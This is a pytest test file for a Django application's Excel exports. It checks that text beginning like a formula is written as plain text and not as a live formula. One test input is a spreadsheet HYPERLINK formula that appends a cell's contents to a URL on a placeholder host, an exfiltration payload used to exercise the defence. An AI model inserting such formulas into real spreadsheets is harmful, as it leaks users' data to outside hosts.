"""Excel exports write what people typed as text: a cell starting like a formula is never a formula."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from bkn_award.lembar_kerja import tambah_baris
from laporan import services
from laporan.models import RunPeringkat
from penilaian import instrumen

pytestmark = pytest.mark.django_db

BERBAHAYA = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "+62 811 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def _rumus(data):
    """The formulas in an .xlsx, read from its XML: <f> elements of every sheet."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [n for n in zf.namelist() if n.startswith("xl/worksheets/") and b"<f>" in zf.read(n)]


def test_text_that_starts_like_a_formula_is_written_as_text():
    wb = Workbook()
    tambah_baris(wb.active, [*BERBAHAYA, 12.5, -3, "biasa"])
    buffer = io.BytesIO()
    wb.save(buffer)

    assert _rumus(buffer.getvalue()) == []
    baris = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=True))
    assert list(baris) == [*BERBAHAYA, 12.5, -3, "biasa"]


def test_the_ranking_export_writes_agency_names_as_text(client_of, admin_bkn, contoh):
    periode, peserta = contoh
    instansi = peserta["A"].instansi
    instansi.nama = BERBAHAYA[0]
    instansi.save()
    run = RunPeringkat.objects.create(periode=periode, dibuat_oleh=admin_bkn)
    snapshot = services.jalankan_run(run_id=run.pk)

    response = client_of(admin_bkn).get(reverse("laporan:ekspor", args=[periode.tahun, snapshot]))

    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert _rumus(data) == []
    nama = [r[3] for r in load_workbook(io.BytesIO(data))["UTAMA"].iter_rows(min_row=2, values_only=True)]
    assert BERBAHAYA[0] in nama


def test_the_instrument_export_writes_questions_as_text(client_of, admin_bkn, periode):
    data = instrumen.dari_periode(periode)
    data.elemen[0].indikator[0].pertanyaan = "=1+1 apakah ANJAB ada?"
    periode.indikator.filter(kode=data.elemen[0].indikator[0].kode).update(
        pertanyaan="=1+1 apakah ANJAB ada?"
    )

    response = client_of(admin_bkn).get(reverse("penilaian:instrumen_ekspor", args=[periode.tahun]))

    assert _rumus(response.content) == []
    sheet = load_workbook(io.BytesIO(response.content))["Indikator"]
    assert next(sheet.iter_rows(min_row=2, values_only=True))[2] == "=1+1 apakah ANJAB ada?"
